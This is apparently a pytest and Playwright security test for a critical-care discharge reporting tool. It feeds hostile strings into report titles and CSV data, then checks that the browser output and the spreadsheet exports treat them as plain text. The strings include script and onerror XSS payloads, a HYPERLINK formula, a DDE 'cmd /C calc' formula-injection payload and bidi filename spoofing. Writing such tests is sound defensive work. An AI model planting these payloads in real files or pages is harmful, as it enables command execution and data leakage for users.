"""A run over data and a scheme in which an attacker has written: nothing of it does anything, in the browser or in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from browser.chrome import opened
from cli.terminal import RUN, given, improving_value

pytestmark = pytest.mark.browser

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"open")'
SCRIPT = "<script>alert(1);console.error('ran')</script>"
BREAKOUT = "\"><img src=x onerror=alert(1)>'"
TURNED = "\u202egnp.exe\u202c \u200f\u2067x\u2069"
LONG = "W" * 10_000
EVERY = (FORMULA, SCRIPT, BREAKOUT, TURNED, LONG, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "</style></title><b>", "{{ 7 * 7 }}")
CODES = tuple(f"RX{number}" for number in range(len(EVERY)))


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Run a scheme with the texts in its title, its words and its sources, over data with them as names, hubs and categories."""
    folder = given(tmp_path_factory.mktemp("hostile"))
    scheme = folder / "schemes" / "late_discharges.yaml"
    written = scheme.read_text(encoding="utf-8")
    for before, text in (
        ("title: Late discharges from critical care", SCRIPT),
        ("title: A made-up guide", BREAKOUT),
        ("summary: Patients who are ready to leave critical care and wait for a bed on a ward.", SCRIPT + BREAKOUT + TURNED + LONG),
        ("say: stay in critical care", BREAKOUT),
        ("title: Stays that ended late", BREAKOUT + LONG),
        ("title: Bed days spent waiting", FORMULA),
        ("say: Both times recorded", SCRIPT + TURNED),
        ("say: Price of a bed day", TURNED + FORMULA),
        ("authored_by: Critical care pharmacist", SCRIPT),
    ):
        assert before in written
        written = written.replace(before, f"{before.partition(':')[0]}: {json.dumps(text)}")
    written = written.replace("      day: date_of", "      where: unit\n      day: date_of").replace(
        "    share: late\n", "    share: late\n    breakdown: where\n"
    )
    scheme.write_text(written, encoding="utf-8")
    activity = folder / "activity"
    heads = ["provider_code", "name", "hub", "hub_name", "region", "region_name", "valid_from", "valid_until", "successor"]
    rows = [[code, text, f"H{code}", text, "R1", SCRIPT, "2010-04-01", "", ""] for code, text in zip(CODES, EVERY, strict=True)]
    _write(activity / "organisations.csv", heads, rows)
    heads = ["cc_period_id", "provider_code", "patient_id", "age", "ready_at", "discharge_at", "destination", "unit"]
    stays = [
        [text[:90] + code, code, f"NHS{code}", "61", "2017-04-03T09:00", "2017-04-03T21:00", "ward", text]
        for code, text in zip(CODES, EVERY, strict=True)
    ]
    _write(activity / "cc_periods.csv", heads, stays)
    ran = improving_value(*RUN, folder=folder)
    assert ran.code in (0, 1), ran.err
    return folder / "results" / "internal"


def _write(path: Path, heads: list[str], rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([heads, *rows])


@pytest.mark.parametrize("width", [320, 1280])
def test_in_the_browser_it_is_only_text(browser: Browser, results: Path, width: int) -> None:
    path = results / "menu.html"
    with opened(browser, path, width) as shown:
        assert shown.asked == [path.as_uri()]
        assert shown.said == []
        page = shown.page
        assert page.locator("script, img, iframe, object, form, link, base, b").count() == 0
        assert page.evaluate("[...document.querySelectorAll('[href]')].every(e => e.getAttribute('href').startsWith('#'))")
        assert page.evaluate("document.documentElement.scrollWidth") == width
        words = page.inner_text("body")
        for text in (SCRIPT, FORMULA, "img src=x onerror=alert(1)", "gnp.exe", "{{ 7 * 7 }}"):
            assert text in words, text
        assert not {"\u202e", "\u202c", "\u200f", "\u2067", "\u2069"} & set(words)


def test_in_a_spreadsheet_it_is_only_text(results: Path) -> None:
    found = 0
    for path in sorted(results.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    assert cell[:1] not in ("=", "+", "@", "\t", "\r"), f"{path.name}: {cell[:60]}"
                    assert not cell.startswith("-") or _is_number(cell), f"{path.name}: {cell[:60]}"
                    found += cell[:2] in ("'=", "'+", "'@", "'-")
    assert found > 3


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
